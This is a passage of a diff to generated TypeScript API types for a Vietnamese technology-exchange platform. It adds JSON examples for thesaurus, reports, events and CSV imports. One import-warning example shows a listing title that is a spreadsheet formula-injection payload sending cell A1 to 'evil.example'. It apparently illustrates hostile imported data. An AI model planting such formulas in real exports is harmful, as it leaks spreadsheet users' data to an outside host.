+                     *           "subsumed": true,
+                     *           "weight": 1,
+                     *           "add": [
+                     *             {
+                     *               "phrase": "lợn rừng lai",
+                     *               "folded": "lon rung lai",
+                     *               "weight": 1
+                     *             }
+                     *           ]
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ThesaurusPreview"];
                 };
             };
@@ -15824,6 +21040,32 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "15d1e890-5470-40c4-9a91-0a172bc5db96",
+                     *       "kind": "expansion",
+                     *       "trigger": "Vườn cà phê bị rệp sáp",
+                     *       "phrases": [
+                     *         "Chế phẩm nấm xanh Metarhizium",
+                     *         "bẫy dính màu vàng"
+                     *       ],
+                     *       "exceptions": [],
+                     *       "folded": {
+                     *         "trigger": "vuon ca phe bi rep sap",
+                     *         "phrases": [
+                     *           "che pham nam xanh metarhizium",
+                     *           "bay dinh mau vang"
+                     *         ],
+                     *         "exceptions": []
+                     *       },
+                     *       "weight": 0.6,
+                     *       "note": "Khuyến nông Tây Nguyên",
+                     *       "starterKey": null,
+                     *       "version": 1,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ThesaurusEntry"];
                 };
             };
@@ -16070,6 +21312,15 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "phrases": [
+                 *         "bắp",
+                 *         "ngô"
+                 *       ],
+                 *       "weight": 0.9
+                 *     }
+                 */
                 "application/json": components["schemas"]["UpdateThesaurusEntryRequest"];
             };
         };
@@ -16085,6 +21336,36 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "5df618f5-3e8e-43ce-8722-7c6ea727d079",
+                     *       "kind": "synonym",
+                     *       "trigger": null,
+                     *       "phrases": [
+                     *         "bắp",
+                     *         "ngô"
+                     *       ],
+                     *       "exceptions": [
+                     *         "bắp cải"
+                     *       ],
+                     *       "folded": {
+                     *         "trigger": null,
+                     *         "phrases": [
+                     *           "bap",
+                     *           "ngo"
+                     *         ],
+                     *         "exceptions": [
+                     *           "bap cai"
+                     *         ]
+                     *       },
+                     *       "weight": 0.9,
+                     *       "note": null,
+                     *       "starterKey": null,
+                     *       "version": 2,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ThesaurusEntry"];
                 };
             };
@@ -16281,6 +21562,382 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "groupBy": "province",
+                     *       "period": "ranges",
+                     *       "successor": false,
+                     *       "metric": "listingsPublished",
+                     *       "periods": [
+                     *         {
+                     *           "key": "2016-01-01..2020-12-31",
+                     *           "from": "2016-01-01",
+                     *           "to": "2020-12-31"
+                     *         },
+                     *         {
+                     *           "key": "2021-01-01..2025-12-31",
+                     *           "from": "2021-01-01",
+                     *           "to": "2025-12-31"
+                     *         }
+                     *       ],
+                     *       "groups": [
+                     *         {
+                     *           "key": "37",
+                     *           "label": "Ninh Bình",
+                     *           "values": [
+                     *             {
+                     *               "listingsPublished": 29,
+                     *               "demandsOpened": 0,
+                     *               "matchesProposed": 0,
+                     *               "dealsStarted": 20,
+                     *               "eventDeals": 0,
+                     *               "completedTransfers": 19,
+                     *               "transferValueVnd": 3080000000,
+                     *               "tasksStarted": 3,
+                     *               "tasksCompleted": 3,
+                     *               "taskFundingVnd": 2900000000,
+                     *               "dealsByState": {
+                     *                 "completed": 20
+                     *               }
+                     *             },
+                     *             {
+                     *               "listingsPublished": 68,
+                     *               "demandsOpened": 4,
+                     *               "matchesProposed": 0,
+                     *               "dealsStarted": 35,
+                     *               "eventDeals": 1,
+                     *               "completedTransfers": 34,
+                     *               "transferValueVnd": 7420000000,
+                     *               "tasksStarted": 3,
+                     *               "tasksCompleted": 3,
+                     *               "taskFundingVnd": 4250000000,
+                     *               "dealsByState": {
+                     *                 "completed": 35
+                     *               }
+                     *             }
+                     *           ],
+                     *           "total": {
+                     *             "listingsPublished": 97,
+                     *             "demandsOpened": 4,
+                     *             "matchesProposed": 0,
+                     *             "dealsStarted": 55,
+                     *             "eventDeals": 1,
+                     *             "completedTransfers": 53,
+                     *             "transferValueVnd": 10500000000,
+                     *             "tasksStarted": 6,
+                     *             "tasksCompleted": 6,
+                     *             "taskFundingVnd": 7150000000,
+                     *             "dealsByState": {
+                     *               "completed": 55
+                     *             }
+                     *           }
+                     *         },
+                     *         {
+                     *           "key": "33",
+                     *           "label": "Hưng Yên",
+                     *           "values": [
+                     *             {
+                     *               "listingsPublished": 22,
+                     *               "demandsOpened": 0,
+                     *               "matchesProposed": 0,
+                     *               "dealsStarted": 13,
+                     *               "eventDeals": 0,
+                     *               "completedTransfers": 12,
+                     *               "transferValueVnd": 2060000000,
+                     *               "tasksStarted": 2,
+                     *               "tasksCompleted": 2,
+                     *               "taskFundingVnd": 2000000000,
+                     *               "dealsByState": {
+                     *                 "completed": 13
+                     *               }
+                     *             },
+                     *             {
+                     *               "listingsPublished": 42,
+                     *               "demandsOpened": 1,
+                     *               "matchesProposed": 0,
+                     *               "dealsStarted": 22,
+                     *               "eventDeals": 0,
+                     *               "completedTransfers": 22,
+                     *               "transferValueVnd": 4660000000,
+                     *               "tasksStarted": 2,
+                     *               "tasksCompleted": 2,
+                     *               "taskFundingVnd": 2900000000,
+                     *               "dealsByState": {
+                     *                 "completed": 22
+                     *               }
+                     *             }
+                     *           ],
+                     *           "total": {
+                     *             "listingsPublished": 64,
+                     *             "demandsOpened": 1,
+                     *             "matchesProposed": 0,
+                     *             "dealsStarted": 35,
+                     *             "eventDeals": 0,
+                     *             "completedTransfers": 34,
+                     *             "transferValueVnd": 6720000000,
+                     *             "tasksStarted": 4,
+                     *             "tasksCompleted": 4,
+                     *             "taskFundingVnd": 4900000000,
+                     *             "dealsByState": {
+                     *               "completed": 35
+                     *             }
+                     *           }
+                     *         }
+                     *       ],
+                     *       "groupCount": 8,
+                     *       "totals": {
+                     *         "values": [
+                     *           {
+                     *             "listingsPublished": 99,
+                     *             "demandsOpened": 0,
+                     *             "matchesProposed": 0,
+                     *             "dealsStarted": 65,
+                     *             "eventDeals": 0,
+                     *             "completedTransfers": 59,
+                     *             "transferValueVnd": 9420000000,
+                     *             "tasksStarted": 10,
+                     *             "tasksCompleted": 10,
+                     *             "taskFundingVnd": 10250000000,
+                     *             "dealsByState": {
+                     *               "completed": 65
+                     *             }
+                     *           },
+                     *           {
+                     *             "listingsPublished": 240,
+                     *             "demandsOpened": 8,
+                     *             "matchesProposed": 0,
+                     *             "dealsStarted": 113,
+                     *             "eventDeals": 3,
+                     *             "completedTransfers": 113,
+                     *             "transferValueVnd": 25160000000,
+                     *             "tasksStarted": 10,
+                     *             "tasksCompleted": 10,
+                     *             "taskFundingVnd": 14750000000,
+                     *             "dealsByState": {
+                     *               "in_transfer": 1,
+                     *               "completed": 112
+                     *             }
+                     *           }
+                     *         ],
+                     *         "total": {
+                     *           "listingsPublished": 339,
+                     *           "demandsOpened": 8,
+                     *           "matchesProposed": 0,
+                     *           "dealsStarted": 178,
+                     *           "eventDeals": 3,
+                     *           "completedTransfers": 172,
+                     *           "transferValueVnd": 34580000000,
+                     *           "tasksStarted": 20,
+                     *           "tasksCompleted": 20,
+                     *           "taskFundingVnd": 25000000000,
+                     *           "dealsByState": {
+                     *             "completed": 177,
+                     *             "in_transfer": 1
+                     *           }
+                     *         }
+                     *       },
+                     *       "comparison": {
+                     *         "first": "2016-01-01..2020-12-31",
+                     *         "second": "2021-01-01..2025-12-31",
+                     *         "groups": [
+                     *           {
+                     *             "key": "37",
+                     *             "label": "Ninh Bình",
+                     *             "changes": {
+                     *               "listingsPublished": {
+                     *                 "first": 29,
+                     *                 "second": 68,
+                     *                 "difference": 39,
+                     *                 "ratio": 2.345
+                     *               },
+                     *               "demandsOpened": {
+                     *                 "first": 0,
+                     *                 "second": 4,
+                     *                 "difference": 4,
+                     *                 "ratio": null
+                     *               },
+                     *               "matchesProposed": {
+                     *                 "first": 0,
+                     *                 "second": 0,
+                     *                 "difference": 0,
+                     *                 "ratio": null
+                     *               },
+                     *               "dealsStarted": {
+                     *                 "first": 20,
+                     *                 "second": 35,
+                     *                 "difference": 15,
+                     *                 "ratio": 1.75
+                     *               },
+                     *               "eventDeals": {
+                     *                 "first": 0,
+                     *                 "second": 1,
+                     *                 "difference": 1,
+                     *                 "ratio": null
+                     *               },
+                     *               "completedTransfers": {
+                     *                 "first": 19,
+                     *                 "second": 34,
+                     *                 "difference": 15,
+                     *                 "ratio": 1.789
+                     *               },
+                     *               "transferValueVnd": {
+                     *                 "first": 3080000000,
+                     *                 "second": 7420000000,
+                     *                 "difference": 4340000000,
+                     *                 "ratio": 2.409
+                     *               },
+                     *               "tasksStarted": {
+                     *                 "first": 3,
+                     *                 "second": 3,
+                     *                 "difference": 0,
+                     *                 "ratio": 1
+                     *               },
+                     *               "tasksCompleted": {
+                     *                 "first": 3,
+                     *                 "second": 3,
+                     *                 "difference": 0,
+                     *                 "ratio": 1
+                     *               },
+                     *               "taskFundingVnd": {
+                     *                 "first": 2900000000,
+                     *                 "second": 4250000000,
+                     *                 "difference": 1350000000,
+                     *                 "ratio": 1.466
+                     *               }
+                     *             }
+                     *           },
+                     *           {
+                     *             "key": "33",
+                     *             "label": "Hưng Yên",
+                     *             "changes": {
+                     *               "listingsPublished": {
+                     *                 "first": 22,
+                     *                 "second": 42,
+                     *                 "difference": 20,
+                     *                 "ratio": 1.909
+                     *               },
+                     *               "demandsOpened": {
+                     *                 "first": 0,
+                     *                 "second": 1,
+                     *                 "difference": 1,
+                     *                 "ratio": null
+                     *               },
+                     *               "matchesProposed": {
+                     *                 "first": 0,
+                     *                 "second": 0,
+                     *                 "difference": 0,
+                     *                 "ratio": null
+                     *               },
+                     *               "dealsStarted": {
+                     *                 "first": 13,
+                     *                 "second": 22,
+                     *                 "difference": 9,
+                     *                 "ratio": 1.692
+                     *               },
+                     *               "eventDeals": {
+                     *                 "first": 0,
+                     *                 "second": 0,
+                     *                 "difference": 0,
+                     *                 "ratio": null
+                     *               },
+                     *               "completedTransfers": {
+                     *                 "first": 12,
+                     *                 "second": 22,
+                     *                 "difference": 10,
+                     *                 "ratio": 1.833
+                     *               },
+                     *               "transferValueVnd": {
+                     *                 "first": 2060000000,
+                     *                 "second": 4660000000,
+                     *                 "difference": 2600000000,
+                     *                 "ratio": 2.262
+                     *               },
+                     *               "tasksStarted": {
+                     *                 "first": 2,
+                     *                 "second": 2,
+                     *                 "difference": 0,
+                     *                 "ratio": 1
+                     *               },
+                     *               "tasksCompleted": {
+                     *                 "first": 2,
+                     *                 "second": 2,
+                     *                 "difference": 0,
+                     *                 "ratio": 1
+                     *               },
+                     *               "taskFundingVnd": {
+                     *                 "first": 2000000000,
+                     *                 "second": 2900000000,
+                     *                 "difference": 900000000,
+                     *                 "ratio": 1.45
+                     *               }
+                     *             }
+                     *           }
+                     *         ],
+                     *         "totals": {
+                     *           "listingsPublished": {
+                     *             "first": 99,
+                     *             "second": 240,
+                     *             "difference": 141,
+                     *             "ratio": 2.424
+                     *           },
+                     *           "demandsOpened": {
+                     *             "first": 0,
+                     *             "second": 8,
+                     *             "difference": 8,
+                     *             "ratio": null
+                     *           },
+                     *           "matchesProposed": {
+                     *             "first": 0,
+                     *             "second": 0,
+                     *             "difference": 0,
+                     *             "ratio": null
+                     *           },
+                     *           "dealsStarted": {
+                     *             "first": 65,
+                     *             "second": 113,
+                     *             "difference": 48,
+                     *             "ratio": 1.738
+                     *           },
+                     *           "eventDeals": {
+                     *             "first": 0,
+                     *             "second": 3,
+                     *             "difference": 3,
+                     *             "ratio": null
+                     *           },
+                     *           "completedTransfers": {
+                     *             "first": 59,
+                     *             "second": 113,
+                     *             "difference": 54,
+                     *             "ratio": 1.915
+                     *           },
+                     *           "transferValueVnd": {
+                     *             "first": 9420000000,
+                     *             "second": 25160000000,
+                     *             "difference": 15740000000,
+                     *             "ratio": 2.671
+                     *           },
+                     *           "tasksStarted": {
+                     *             "first": 10,
+                     *             "second": 10,
+                     *             "difference": 0,
+                     *             "ratio": 1
+                     *           },
+                     *           "tasksCompleted": {
+                     *             "first": 10,
+                     *             "second": 10,
+                     *             "difference": 0,
+                     *             "ratio": 1
+                     *           },
+                     *           "taskFundingVnd": {
+                     *             "first": 10250000000,
+                     *             "second": 14750000000,
+                     *             "difference": 4500000000,
+                     *             "ratio": 1.439
+                     *           }
+                     *         }
+                     *       }
+                     *     }
+                     */
                     "application/json": components["schemas"]["ActivityReport"];
                     "text/csv": string;
                     "image/svg+xml": string;
@@ -16391,6 +22048,87 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "35b0543d-60cf-42bb-b966-d715b94f9e70",
+                     *           "kind": "fair",
+                     *           "title": "Chợ công nghệ và thiết bị Nam Định 2026",
+                     *           "description": null,
+                     *           "startsOn": "2026-06-01",
+                     *           "endsOn": "2026-06-03",
+                     *           "place": "Trung tâm Hội chợ triển lãm tỉnh, TP. Nam Định",
+                     *           "provinceCode": "36",
+                     *           "currentProvinceCode": "37",
+                     *           "organizer": {
+                     *             "id": "78c76fbf-e93f-4e30-8fcf-c3f63920b3bf",
+                     *             "name": "Trung tâm Ứng dụng KH&CN Nam Định",
+                     *             "kind": "transfer_centre"
+                     *           },
+                     *           "coOrganizers": [
+                     *             {
+                     *               "id": "cd2c5ba8-428f-44e6-af5d-07a5af9a073c",
+                     *               "name": "Sở KH&CN Nam Định",
+                     *               "kind": "authority"
+                     *             }
+                     *           ],
+                     *           "participants": [],
+                     *           "listings": [],
+                     *           "outcomes": {
+                     *             "dealsStarted": 0,
+                     *             "dealsByState": {},
+                     *             "completedTransfers": 0,
+                     *             "transferValueVnd": 0
+                     *           },
+                     *           "version": 1,
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *         },
+                     *         {
+                     *           "id": "254ef6d3-b71e-4c77-84d9-0bfa0885b577",
+                     *           "kind": "workshop",
+                     *           "title": "Hội thảo kết nối cung cầu",
+                     *           "description": null,
+                     *           "startsOn": "2026-02-27",
+                     *           "endsOn": "2026-03-01",
+                     *           "place": "Trung tâm Hội chợ triển lãm tỉnh, TP. Nam Định",
+                     *           "provinceCode": "36",
+                     *           "currentProvinceCode": "37",
+                     *           "organizer": {
+                     *             "id": "78c76fbf-e93f-4e30-8fcf-c3f63920b3bf",
+                     *             "name": "Trung tâm Ứng dụng KH&CN Nam Định",
+                     *             "kind": "transfer_centre"
+                     *           },
+                     *           "coOrganizers": [
+                     *             {
+                     *               "id": "cd2c5ba8-428f-44e6-af5d-07a5af9a073c",
+                     *               "name": "Sở KH&CN Nam Định",
+                     *               "kind": "authority"
+                     *             }
+                     *           ],
+                     *           "participants": [
+                     *             {
+                     *               "id": "501194c5-cef7-4ae8-90a8-97af237f9648",
+                     *               "name": "HTX Nông nghiệp Giao Thủy",
+                     *               "kind": "enterprise"
+                     *             }
+                     *           ],
+                     *           "listings": [],
+                     *           "outcomes": {
+                     *             "dealsStarted": 0,
+                     *             "dealsByState": {},
+                     *             "completedTransfers": 0,
+                     *             "transferValueVnd": 0
+                     *           },
+                     *           "version": 2,
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["ExchangeEventPage"];
                 };
             };
@@ -16474,6 +22212,26 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "kind": "fair",
+                 *       "title": "Chợ công nghệ và thiết bị Nam Định 2026",
+                 *       "startsOn": "2026-02-27",
+                 *       "endsOn": "2026-03-01",
+                 *       "place": "Trung tâm Hội chợ triển lãm tỉnh, TP. Nam Định",
+                 *       "provinceCode": "36",
+                 *       "coOrganizerIds": [
+                 *         "cd2c5ba8-428f-44e6-af5d-07a5af9a073c"
+                 *       ],
+                 *       "participantIds": [
+                 *         "0a1576fe-fa9d-4217-810a-e7e75316b697",
+                 *         "501194c5-cef7-4ae8-90a8-97af237f9648"
+                 *       ],
+                 *       "listingIds": [
+                 *         "95e38f73-1ffd-4a3b-9165-2b94567cae08"
+                 *       ]
+                 *     }
+                 */
                 "application/json": components["schemas"]["CreateExchangeEventRequest"];
             };
         };
@@ -16491,6 +22249,59 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "1e59d44c-cc2f-4fae-943b-3b1dfdb9dbe4",
+                     *       "kind": "fair",
+                     *       "title": "Chợ công nghệ và thiết bị Nam Định 2026",
+                     *       "description": null,
+                     *       "startsOn": "2026-02-27",
+                     *       "endsOn": "2026-03-01",
+                     *       "place": "Trung tâm Hội chợ triển lãm tỉnh, TP. Nam Định",
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "organizer": {
+                     *         "id": "78c76fbf-e93f-4e30-8fcf-c3f63920b3bf",
+                     *         "name": "Trung tâm Ứng dụng KH&CN Nam Định",
+                     *         "kind": "transfer_centre"
+                     *       },
+                     *       "coOrganizers": [
+                     *         {
+                     *           "id": "cd2c5ba8-428f-44e6-af5d-07a5af9a073c",
+                     *           "name": "Sở KH&CN Nam Định",
+                     *           "kind": "authority"
+                     *         }
+                     *       ],
+                     *       "participants": [
+                     *         {
+                     *           "id": "501194c5-cef7-4ae8-90a8-97af237f9648",
+                     *           "name": "HTX Nông nghiệp Giao Thủy",
+                     *           "kind": "enterprise"
+                     *         },
+                     *         {
+                     *           "id": "0a1576fe-fa9d-4217-810a-e7e75316b697",
+                     *           "name": "Viện Cơ điện Nông nghiệp",
+                     *           "kind": "research_institute"
+                     *         }
+                     *       ],
+                     *       "listings": [
+                     *         {
+                     *           "id": "95e38f73-1ffd-4a3b-9165-2b94567cae08",
+                     *           "titleVi": "Máy sấy lúa tầng sôi công suất 10 tấn/mẻ",
+                     *           "status": "published"
+                     *         }
+                     *       ],
+                     *       "outcomes": {
+                     *         "dealsStarted": 0,
+                     *         "dealsByState": {},
+                     *         "completedTransfers": 0,
+                     *         "transferValueVnd": 0
+                     *       },
+                     *       "version": 1,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ExchangeEvent"];
                 };
             };
@@ -16643,6 +22454,71 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "55702ee7-5b70-5b5e-9e56-806cc680b3e9",
+                     *       "kind": "fair",
+                     *       "title": "Chợ công nghệ và thiết bị vùng Đồng bằng sông Hồng 2024",
+                     *       "description": "Các trung tâm ứng dụng và chuyển giao công nghệ giới thiệu công nghệ cho sản phẩm chủ lực; doanh nghiệp và hợp tác xã gặp gỡ bên cung.",
+                     *       "startsOn": "2024-10-15",
+                     *       "endsOn": "2024-10-17",
+                     *       "place": "Trung tâm Hội chợ triển lãm tỉnh, TP. Nam Định",
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "organizer": {
+                     *         "id": "f9f07f40-5dd0-5b08-9db5-0b2cf51e0eb1",
+                     *         "name": "Sở Khoa học và Công nghệ tỉnh Nam Định",
+                     *         "kind": "authority"
+                     *       },
+                     *       "coOrganizers": [
+                     *         {
+                     *           "id": "3cd29875-ed50-561a-ae07-26566b7177ba",
+                     *           "name": "Trung tâm Thông tin và Ứng dụng khoa học công nghệ Bắc Giang",
+                     *           "kind": "transfer_centre"
+                     *         },
+                     *         {
+                     *           "id": "dd78db0f-df8e-5ee1-9e3b-9bb497664b3b",
+                     *           "name": "Trung tâm Thông tin và Ứng dụng khoa học công nghệ Hà Nam",
+                     *           "kind": "transfer_centre"
+                     *         }
+                     *       ],
+                     *       "participants": [
+                     *         {
+                     *           "id": "36da24e8-854e-51aa-99c3-077571b39d0e",
+                     *           "name": "Công ty Cổ phần Chè Thanh Ba",
+                     *           "kind": "enterprise"
+                     *         },
+                     *         {
+                     *           "id": "f8aaad4d-a1df-55f2-abeb-d22327987a49",
+                     *           "name": "Công ty Cổ phần Giống cây trồng Thái Bình Xanh",
+                     *           "kind": "enterprise"
+                     *         }
+                     *       ],
+                     *       "listings": [
+                     *         {
+                     *           "id": "ebc1ae22-2e17-5947-863e-8c16f38256b8",
+                     *           "titleVi": "Bảo quản vải tươi bằng CA (vải thiều, 2024)",
+                     *           "status": "withdrawn"
+                     *         },
+                     *         {
+                     *           "id": "822dbfeb-0346-52a8-8ba0-f5ddab909589",
+                     *           "titleVi": "Chiết xuất tinh dầu (dược liệu, 2024)",
+                     *           "status": "withdrawn"
+                     *         }
+                     *       ],
+                     *       "outcomes": {
+                     *         "dealsStarted": 3,
+                     *         "dealsByState": {
+                     *           "completed": 3
+                     *         },
+                     *         "completedTransfers": 3,
+                     *         "transferValueVnd": 880000000
+                     *       },
+                     *       "version": 1,
+                     *       "createdAt": "2024-08-01T02:00:00.000Z",
+                     *       "updatedAt": "2024-08-01T02:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ExchangeEvent"];
                 };
             };
@@ -16742,6 +22618,14 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "participantIds": [
+                 *         "501194c5-cef7-4ae8-90a8-97af237f9648"
+                 *       ],
+                 *       "listingIds": []
+                 *     }
+                 */
                 "application/json": components["schemas"]["UpdateExchangeEventRequest"];
             };
         };
@@ -16757,6 +22641,48 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "254ef6d3-b71e-4c77-84d9-0bfa0885b577",
+                     *       "kind": "workshop",
+                     *       "title": "Hội thảo kết nối cung cầu",
+                     *       "description": null,
+                     *       "startsOn": "2026-02-27",
+                     *       "endsOn": "2026-03-01",
+                     *       "place": "Trung tâm Hội chợ triển lãm tỉnh, TP. Nam Định",
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "organizer": {
+                     *         "id": "78c76fbf-e93f-4e30-8fcf-c3f63920b3bf",
+                     *         "name": "Trung tâm Ứng dụng KH&CN Nam Định",
+                     *         "kind": "transfer_centre"
+                     *       },
+                     *       "coOrganizers": [
+                     *         {
+                     *           "id": "cd2c5ba8-428f-44e6-af5d-07a5af9a073c",
+                     *           "name": "Sở KH&CN Nam Định",
+                     *           "kind": "authority"
+                     *         }
+                     *       ],
+                     *       "participants": [
+                     *         {
+                     *           "id": "501194c5-cef7-4ae8-90a8-97af237f9648",
+                     *           "name": "HTX Nông nghiệp Giao Thủy",
+                     *           "kind": "enterprise"
+                     *         }
+                     *       ],
+                     *       "listings": [],
+                     *       "outcomes": {
+                     *         "dealsStarted": 0,
+                     *         "dealsByState": {},
+                     *         "completedTransfers": 0,
+                     *         "transferValueVnd": 0
+                     *       },
+                     *       "version": 2,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ExchangeEvent"];
                 };
             };
@@ -16937,6 +22863,47 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "d39d0264-6a52-4c6e-8b0d-cf10b58c0803",
+                     *           "organizationId": "e7250ecf-850d-434a-be9c-39c68a354767",
+                     *           "kind": "listings",
+                     *           "format": "csv",
+                     *           "status": "queued",
+                     *           "totalRows": 1,
+                     *           "rowsDone": 0,
+                     *           "rowsCreated": 0,
+                     *           "rowsUpdated": 0,
+                     *           "rowsUnchanged": 0,
+                     *           "rowsFailed": 0,
+                     *           "error": null,
+                     *           "createdAt": "2026-03-02T04:00:00.000Z",
+                     *           "startedAt": null,
+                     *           "finishedAt": null
+                     *         },
+                     *         {
+                     *           "id": "db55c3f2-f0df-43e5-a014-5e6cf12e67c0",
+                     *           "organizationId": "e7250ecf-850d-434a-be9c-39c68a354767",
+                     *           "kind": "listings",
+                     *           "format": "csv",
+                     *           "status": "completed",
+                     *           "totalRows": 6,
+                     *           "rowsDone": 6,
+                     *           "rowsCreated": 0,
+                     *           "rowsUpdated": 0,
+                     *           "rowsUnchanged": 2,
+                     *           "rowsFailed": 4,
+                     *           "error": null,
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "startedAt": "2026-03-02T03:00:00.000Z",
+                     *           "finishedAt": "2026-03-02T03:00:00.000Z"
+                     *         }
+                     *       ],
+                     *       "nextCursor": "WyJpbXBvcnRzIiwiMjAyNi0wMy0wMlQwMzowMDowMC4wMDBaIiwiZGI1NWMzZjItZjBkZi00M2U1LWEwMTQtNWU2Y2YxMmU2N2MwIl0.5Iwxlupqw3MuWkRNjqbwbQ"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ImportPage"];
                 };
             };
@@ -17053,6 +23020,39 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "dc8be99b-6968-4e40-bb5a-b81412d2a9a2",
+                     *       "organizationId": "b656f389-1ec1-453d-96fe-dd6a4653bd84",
+                     *       "kind": "listings",
+                     *       "format": "csv",
+                     *       "status": "queued",
+                     *       "totalRows": 610,
+                     *       "rowsDone": 0,
+                     *       "rowsCreated": 0,
+                     *       "rowsUpdated": 0,
+                     *       "rowsUnchanged": 0,
+                     *       "rowsFailed": 0,
+                     *       "error": null,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "startedAt": null,
+                     *       "finishedAt": null,
+                     *       "columns": [
+                     *         {
+                     *           "header": "kind",
+                     *           "field": "kind"
+                     *         },
+                     *         {
+                     *           "header": "titleVi",
+                     *           "field": "titleVi"
+                     *         }
+                     *       ],
+                     *       "ignoredColumns": [],
+                     *       "errors": [],
+                     *       "warnings": [],
+                     *       "warningCount": 0
+                     *     }
+                     */
                     "application/json": components["schemas"]["Import"];
                 };
             };
@@ -17205,6 +23205,58 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "e8afda84-d426-414b-87a6-a7e5edc98e42",
+                     *       "organizationId": "f3e0da42-c983-49b4-a18f-5aa534eddc35",
+                     *       "kind": "listings",
+                     *       "format": "csv",
+                     *       "status": "completed",
+                     *       "totalRows": 1,
+                     *       "rowsDone": 1,
+                     *       "rowsCreated": 1,
+                     *       "rowsUpdated": 0,
+                     *       "rowsUnchanged": 0,
+                     *       "rowsFailed": 0,
+                     *       "error": null,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "startedAt": "2026-03-02T03:00:00.000Z",
+                     *       "finishedAt": "2026-03-02T03:00:00.000Z",
+                     *       "columns": [
+                     *         {
+                     *           "header": "externalId",
+                     *           "field": "externalId"
+                     *         },
+                     *         {
+                     *           "header": "status",
+                     *           "field": "status"
+                     *         }
+                     *       ],
+                     *       "ignoredColumns": [],
+                     *       "errors": [],
+                     *       "warnings": [
+                     *         {
+                     *           "line": 2,
+                     *           "id": "7635104d-df32-4639-8f56-bad126614d29",
+                     *           "detail": "looks like 1 listing(s) already on the exchange",
+                     *           "possibleDuplicates": [
+                     *             {
+                     *               "id": "54124ee4-dcbf-41e5-9697-83d8c2f8fb9c",
+                     *               "title": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Xem chi tiết\")",
+                     *               "similarity": 1,
+                     *               "descriptionSimilarity": 1,
+                     *               "provenance": {
+                     *                 "source": "tech-exchange",
+                     *                 "externalId": null,
+                     *                 "globalId": "tech-exchange:listing:54124ee4-dcbf-41e5-9697-83d8c2f8fb9c"
+                     *               }
+                     *             }
+                     *           ]
+                     *         }
+                     *       ],
+                     *       "warningCount": 1
+                     *     }
+                     */
                     "application/json": components["schemas"]["Import"];
                 };
             };
@@ -17333,6 +23385,31 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "line": 2,
+                     *           "errors": [
+                     *             {
+                     *               "pointer": "#/titleVi",
+                     *               "detail": "is required"
+                     *             }
+                     *           ]
+                     *         },
+                     *         {
+                     *           "line": 3,
+                     *           "errors": [
+                     *             {
+                     *               "pointer": "#/titleVi",
+                     *               "detail": "is required"
+                     *             }
+                     *           ]
+                     *         }
+                     *       ],
+                     *       "nextCursor": "WyJsaW5lIiwzXQ.dMHRqUwm9HGszjESBmyQYA"
+                     *     }
+                     */
                     "application/json": components["schemas"]["ImportErrorPage"];
                 };
             };
@@ -17702,6 +23779,21 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "hanoi-portal",
+                     *           "name": "Cổng cung cầu công nghệ Hà Nội",
+                     *           "organizationId": "3c3d161b-2a37-458b-987d-f304048fbcad",
+                     *           "homepage": "https://techport.hanoi.example.vn",
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["SourcePage"];
                 };
             };
@@ -17785,6 +23877,14 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
